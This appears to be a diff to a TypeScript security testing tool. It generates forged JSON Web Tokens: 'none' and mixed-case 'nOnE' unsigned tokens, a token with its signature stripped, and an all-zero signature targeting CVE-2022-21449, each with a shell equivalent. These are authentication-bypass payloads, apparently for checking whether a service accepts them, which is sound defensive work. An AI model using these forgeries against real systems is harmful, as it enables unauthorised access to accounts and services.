@@ -20,22 +20,43 @@ function otherLast(last: string): string {
   return BASE64URL[value < 0 ? 0 : value ^ 0b100000] ?? 'A';
 }
 
+/** `{"alg":"nOnE"}`, in base64url: a library may refuse `none` and read it without its case. */
+const UNSIGNED_MIXED_CASE = 'eyJhbGciOiJuT25FIn0';
+
 /**
  * Returns the claims of a JSON Web Token in an unsecured one (RFC 7519 section 6), and the token with
- * an empty signature: a library may accept either as signed. Returns nothing if the token does not
- * have three parts in base64url.
+ * an empty signature or one of zeros. A library may accept each as signed; zeros, if it does not check
+ * that the numbers of an ECDSA signature are positive (CVE-2022-21449). Returns nothing if the token
+ * does not have three parts in base64url.
  */
 function unsigned(token: string): Alteration[] {
-  const [, header, claims] = /^([\w-]+)\.([\w-]+)\.[\w-]+$/.exec(token) ?? [];
-  if (header === undefined || claims === undefined) return [];
-  const shell = `${UNSIGNED}.$(printf %s "$API_TOKEN" | cut -d. -f2).`;
+  const [, header, claims, signature] = /^([\w-]+)\.([\w-]+)\.([\w-]+)$/.exec(token) ?? [];
+  if (header === undefined || claims === undefined || signature === undefined) return [];
+  const claimsInShell = '$(printf %s "$API_TOKEN" | cut -d. -f2)';
   return [
-    ['token-unsigned', "the token's claims, with no signature", `${UNSIGNED}.${claims}.`, shell],
+    [
+      'token-unsigned',
+      "the token's claims, with no signature",
+      `${UNSIGNED}.${claims}.`,
+      `${UNSIGNED}.${claimsInShell}.`,
+    ],
+    [
+      'token-unsigned-mixed-case',
+      "the token's claims, with no signature, under nOnE",
+      `${UNSIGNED_MIXED_CASE}.${claims}.`,
+      `${UNSIGNED_MIXED_CASE}.${claimsInShell}.`,
+    ],
     [
       'token-signature-empty',
       'the token without its signature',
       `${header}.${claims}.`,
       '${API_TOKEN%.*}.',
+    ],
+    [
+      'token-signature-zeros',
+      'the token, its signature all zeros',
+      `${header}.${claims}.${'A'.repeat(signature.length)}`,
+      '${API_TOKEN%.*}.$(printf %s "${API_TOKEN##*.}" | sed \'s/./A/g\')',
     ],
   ];
 }
